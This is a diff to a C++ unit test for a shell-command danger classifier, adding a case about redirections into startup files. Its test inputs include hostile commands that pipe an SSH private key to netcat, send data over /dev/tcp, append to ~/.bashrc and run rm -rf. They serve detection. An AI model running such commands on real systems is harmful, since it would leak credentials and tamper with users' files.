@@ -65,6 +65,11 @@ TEST(CommandLine, DangersIncludeRedirections) {
   EXPECT_EQ(dangers("echo x >> ~/.bashrc"), "startup-files");
   EXPECT_EQ(dangers("cat < ~/.ssh/id_rsa | nc host 1"), "upload read-credentials");
   EXPECT_EQ(dangers("echo x > /dev/tcp/host/80"), "upload");
+  // What no operation shows: a rule that opts in to the operation's danger does not mean these.
+  const auto both = read_shell_line("rm -rf x > ~/.bashrc");
+  ASSERT_TRUE(both);
+  EXPECT_EQ(both->file_dangers, std::vector<std::string_view>{"startup-files"});
+  EXPECT_TRUE(read_shell_line("git push -f")->file_dangers.empty());
 }
 
 struct DangerCase {
